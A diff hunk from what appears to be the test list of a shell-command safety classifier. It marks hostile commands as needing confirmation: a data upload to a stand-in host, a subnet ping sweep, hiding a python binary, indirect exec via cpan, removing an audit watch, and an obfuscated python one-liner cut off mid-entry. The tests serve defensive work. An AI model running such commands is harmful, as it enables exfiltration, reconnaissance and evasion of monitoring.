@@ -86,7 +86,7 @@ HOSTILE = [
      Decision.CONFIRM, "confirm.shell.attack-probe"),
     ("cp /usr/bin/python3 ~/.../py", Decision.CONFIRM, "confirm.shell.defense-evasion"),
     ("printf '! system(\"id\")' | cpan", Decision.CONFIRM, "confirm.shell.indirect-exec"),
-    ("auditctl -w /etc/passwd -p wa -k ids", Decision.CONFIRM, "confirm.shell.system-state"),
+    ("auditctl -W /etc/passwd -p wa -k ids", Decision.CONFIRM, "confirm.shell.system-state"),
     ("sftp ops@files.example.net <<< 'put dump.sql'", Decision.CONFIRM, "confirm.shell.network"),
     ("for n in $(seq 1 254); do ping -c1 -W1 10.20.30.$n; done", Decision.CONFIRM, "confirm.shell.recon"),
     ("python3 -c 'import zlib,base64,os; c=zlib.decompress(base64.b64decode(\"eJzLTAQAAlQBFQ==\")).decode(); "
